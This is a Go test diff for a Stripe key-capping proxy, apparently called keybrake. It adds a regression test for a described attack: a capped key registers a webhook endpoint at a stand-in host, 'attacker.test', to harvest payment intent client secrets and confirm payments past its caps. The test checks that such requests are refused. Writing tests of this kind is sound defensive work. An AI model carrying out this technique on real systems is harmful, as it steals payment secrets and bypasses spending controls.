@@ -1,6 +1,8 @@
 package http_test
 
 import (
+	"fmt"
+	"strings"
 	"testing"
 )
 
@@ -45,6 +47,38 @@ func TestAttackScope_PayoutDestination(t *testing.T) {
 		a.must(t, 403, "POST", "/v1/transfers", "amount=1000&currency=usd&destination=acct_2", Header{"Stripe-Account", "acct_1"})
 		if got := e.Spend(t, a.keyID).Total; got != 10_000_000 {
 			t.Fatalf("spend %s, want the one payout's 10.00", got)
+		}
+	})
+}
+
+// A capped key without allow_unpriced created a webhook endpoint (a free
+// write) to its own URL: Stripe then sent it every event, with the client
+// secret of every confirmable payment intent in them, straight from
+// Stripe, never through keybrake's redaction; a browser with the
+// publishable key confirmed those intents past every cap of the key.
+// Creating an endpoint, or pointing one elsewhere, is now unpriced: refused
+// unless the key sets allow_unpriced. Disabling one stays free.
+func TestAttackSecret_WebhookEndpoint(t *testing.T) {
+	eachStore(t, func(t *testing.T, e *Env) {
+		a := newAttacker(t, e, `{"total_usd_cap":100,"allowed_endpoints":["*"]}`)
+		v := a.must(t, 403, "POST", "/v1/webhook_endpoints", "url=https://attacker.test/hook&enabled_events[]=*")
+		if msg := fmt.Sprint(v); !strings.Contains(msg, "allow_unpriced") {
+			t.Fatalf("refusal does not say how to allow it: %s", msg)
+		}
+		a.must(t, 403, "POST", "/v1/webhook_endpoints/we_1", "url=https://attacker.test/hook")
+		a.must(t, 403, "POST", "/v1/webhook_endpoints/we_1", "disabled=false")
+		a.must(t, 403, "POST", "/v1/webhook_endpoints/we_1", "enabled_events[]=payment_intent.created")
+		for _, body := range []string{"disabled=true", "description=x&metadata[a]=b"} {
+			if status, v := a.call(t, "POST", "/v1/webhook_endpoints/we_1", body); status == 403 {
+				t.Fatalf("update %q refused: %v", body, v)
+			}
+		}
+		if status, v := a.call(t, "DELETE", "/v1/webhook_endpoints/we_1", ""); status == 403 {
+			t.Fatalf("delete refused: %v", v)
+		}
+		b := newAttacker(t, e, `{"total_usd_cap":100,"allowed_endpoints":["*"],"allow_unpriced":true}`)
+		if status, v := b.call(t, "POST", "/v1/webhook_endpoints", "url=https://example.test/hook&enabled_events[]=*"); status == 403 {
+			t.Fatalf("a key with allow_unpriced refused: %v", v)
 		}
 	})
 }
